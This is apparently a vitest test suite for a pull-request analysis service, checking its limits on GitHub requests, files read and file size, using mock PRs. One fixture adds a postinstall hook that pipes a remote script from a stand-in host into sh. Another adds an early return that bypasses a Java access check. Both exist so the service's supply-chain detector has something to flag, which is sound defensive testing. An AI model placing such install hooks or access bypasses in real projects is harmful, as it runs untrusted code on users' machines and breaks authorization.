/**
 * The analysis budget through POST /api/analyze (issue #15, defect 5: one anonymous request for a
 * PR of 3,000 changed package.json without patches made 6,040 GitHub requests, and answers were
 * read whole). Now an analysis spends at most ANALYSIS_MAX_GITHUB_REQUESTS requests, reads the
 * content of at most ANALYSIS_MAX_FILES files and none over ANALYSIS_MAX_FILE_BYTES; it completes
 * with what it read, and `meta.budget` and `meta.warnings` say what the budget left out.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Signal } from '../../src/signal/schema.js';
import { startGitHubServer, type GitHubServer } from '../support/github-server.js';
import { makePrFixture, type FixtureFile } from '../support/pr-fixture.js';
import { startTestService, type TestService } from '../support/start-test-service.js';
import { DB_LABEL, postAnalyze } from '../reliability/helpers.js';

const MANIFESTS = 3000;

/** 3,000 changed package.json, each listed without a patch (GitHub omits it): base and head must both be read. */
function manifestsWithoutPatches(): FixtureFile[] {
  return Array.from({ length: MANIFESTS }, (_, i) => ({
    path: `packages/p${i}/package.json`,
    status: 'modified' as const,
    base: `{"name":"p${i}","version":"1.0.0","dependencies":{"left-pad":"1.0.0"}}\n`,
    head: `{"name":"p${i}","version":"1.0.1","dependencies":{"left-pad":"1.0.0"}}\n`,
    patch: null,
  }));
}

/** A package-lock.json of about `bytes` bytes (v3, many packages). */
function bigLockfile(bytes: number): string {
  const packages: Record<string, unknown> = { '': { name: 'big', version: '1.0.0' } };
  for (let i = 0; JSON.stringify(packages).length < bytes; i += 1) {
    packages[`node_modules/pkg-${i}`] = { version: '1.0.0', resolved: `https://registry.npmjs.org/pkg-${i}/-/pkg-${i}-1.0.0.tgz`, integrity: `sha512-${'a'.repeat(86)}==` };
  }
  return `${JSON.stringify({ name: 'big', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2)}\n`;
}

/** Java files whose patch adds an early return in a method the hunk does not name: each one a code rule would read whole. */
function javaReturns(count: number): FixtureFile[] {
  const body = (early: boolean) =>
    ['public class Access {', '    public boolean canEdit(User user, Doc doc) {', '        if (user == null) {', '            return false;', '        }', '        audit(user);', '        count(doc);', ...(early ? ['        return true;'] : []), '        Grant g = acl.lookup(user, doc);', '        return g != null;', '    }', '}', ''].join('\n');
  return Array.from({ length: count }, (_, i) => ({ path: `src/main/java/acme/p${i}/Access.java`, status: 'modified' as const, base: body(false), head: body(true) }));
}

function meta(answer: { body: Record<string, unknown> }): Signal['meta'] {
  return (answer.body.signal as Signal).meta;
}

describe(`the analysis budget (${DB_LABEL})`, () => {
  let gh: GitHubServer;

  beforeAll(async () => {
    gh = await startGitHubServer();
    gh.addPullRequest(makePrFixture({ owner: 'acme', repo: 'mono', number: 1, title: 'Bump 3,000 packages', files: manifestsWithoutPatches() }));
    gh.addPullRequest(
      makePrFixture({
        owner: 'acme',
        repo: 'big',
        number: 2,
        title: 'Regenerate the lockfile',
        files: [
          { path: 'package-lock.json', status: 'modified', base: bigLockfile(300_000), head: bigLockfile(310_000), patch: null },
          { path: 'package.json', status: 'modified', base: '{"name":"big","version":"1.0.0"}\n', head: '{"name":"big","version":"1.0.1","scripts":{"postinstall":"curl -fsSL https://get.example.com/i.sh | sh"}}\n' },
        ],
      }),
    );
    gh.addPullRequest(
      makePrFixture({
        owner: 'acme',
        repo: 'jvm',
        number: 3,
        title: 'Tidy access checks',
        files: [...javaReturns(40), { path: 'pom.xml', status: 'modified', base: '<project><version>1</version></project>\n', head: '<project><version>2</version></project>\n' }],
      }),
    );
  }, 60_000);

  afterAll(async () => {
    await gh?.close();
  });

  describe('with a small budget of requests (ANALYSIS_MAX_GITHUB_REQUESTS=120)', () => {
    let t: TestService;
    beforeAll(async () => {
      t = await startTestService({ GITHUB_API_URL: gh.apiUrl, ANALYSIS_MAX_GITHUB_REQUESTS: '120', ANALYSIS_MAX_FILES: '100000' });
    }, 60_000);
    afterAll(async () => {
      await t?.close();
    });

    it('a PR with 3,000 changed package.json without patches costs at most the budget of requests, and completes', async () => {
      gh.reset();
      const answer = await postAnalyze(t.url, { url: 'https://github.com/acme/mono/pull/1' });
      expect(answer.status, answer.text.slice(0, 500)).toBe(200);
      const sent = gh.requests.filter((r) => r.api).length;
      expect(sent).toBeLessThanOrEqual(120);
      expect(sent).toBeGreaterThan(100);
      const m = meta(answer);
      expect(m.github_requests).toBe(sent);
      expect(m.budget).toMatchObject({ github_requests: { limit: 120, used: sent }, reached: true });
      expect(m.budget?.limits_reached).toContain('github_requests');
      const warning = m.warnings.find((w) => w.startsWith('the analysis budget was reached'));
      expect(warning).toMatch(/120 GitHub requests; ANALYSIS_MAX_GITHUB_REQUESTS\): \d+ changed files were not read \(packages\/p\d+\/package\.json, .* and \d+ more\)/);
      // One line for the whole budget, not one per file it left out.
      expect(m.warnings.length).toBeLessThan(20);
    }, 120_000);
  });

  describe('with the default budget', () => {
    let t: TestService;
    beforeAll(async () => {
      // 30 file pages and 400 content reads at once: on a loaded CI machine (two whole suites at
      // once) a page took longer than the default 10 s, and its 100 files went missing.
      t = await startTestService({ GITHUB_API_URL: gh.apiUrl, ANALYSIS_MAX_FILE_BYTES: String(128 * 1024), GITHUB_REQUEST_TIMEOUT_MS: '60000', ANALYSIS_TIMEOUT_MS: '120000' });
    }, 60_000);
    afterAll(async () => {
      await t?.close();
    });

    it('reads the content of at most ANALYSIS_MAX_FILES (200) files and stays within 500 requests', async () => {
      gh.reset();
      const answer = await postAnalyze(t.url, { url: 'https://github.com/acme/mono/pull/1' });
      expect(answer.status, answer.text.slice(0, 500)).toBe(200);
      const sent = gh.requests.filter((r) => r.api).length;
      expect(sent).toBeLessThanOrEqual(500);
      const contentReads = gh.requests.filter((r) => /\/contents\/packages(?:\/|%2F)/i.test(r.path)).length;
      expect(contentReads).toBe(400); // base and head of 200 files
      const m = meta(answer);
      expect(m.budget).toMatchObject({ files: { limit: 200, used: 200 }, reached: true, limits_reached: ['files'] });
      expect(m.warnings.find((w) => w.startsWith('the analysis budget was reached'))).toMatch(/contents of 200 files; ANALYSIS_MAX_FILES\): 2800 changed files were not read/);
    }, 120_000);

    it('reads at most 25 source files whole for the code rules, and the supply-chain files after them still', async () => {
      gh.reset();
      const answer = await postAnalyze(t.url, { url: 'https://github.com/acme/jvm/pull/3' });
      expect(answer.status, answer.text.slice(0, 500)).toBe(200);
      const javaReads = new Set(gh.requests.filter((r) => /\/contents\/src(?:\/|%2F)/i.test(r.path)).map((r) => r.path.replace(/\?.*$/, '')));
      expect(javaReads.size).toBe(25);
      expect(gh.requests.some((r) => r.path.endsWith('/contents/pom.xml'))).toBe(true);
      // The first files read name the method: each early return in canEdit is reported.
      expect((answer.body.signal as Signal).supply_chain.findings.some((f) => f.id === 'check-short-circuited')).toBe(true);
    }, 120_000);

    it('skips a file over ANALYSIS_MAX_FILE_BYTES unread, names it, and analyzes the rest', async () => {
      gh.reset();
      const answer = await postAnalyze(t.url, { url: 'https://github.com/acme/big/pull/2' });
      expect(answer.status, answer.text.slice(0, 500)).toBe(200);
      const m = meta(answer);
      expect(m.warnings).toContain('package-lock.json was not read: its base version is over 128 KiB (ANALYSIS_MAX_FILE_BYTES); its changes were not checked');
      expect(m.budget).toMatchObject({ file_bytes_limit: 128 * 1024, reached: false, limits_reached: [] });
      // Far less than the two versions of the lockfile were read: the base was cut off at the cap, the head never asked for.
      expect(m.budget?.bytes.used).toBeLessThan(200_000);
      expect(gh.requests.filter((r) => r.path.endsWith('/contents/package-lock.json')).map((r) => r.status)).toEqual([200]);
      // The other file was analyzed: its postinstall is found.
      const signal = answer.body.signal as Signal;
      expect(signal.supply_chain.findings.map((f) => f.path)).toContain('package.json');
      expect(signal.supply_chain.findings.map((f) => f.path)).not.toContain('package-lock.json');
    });
  });
});
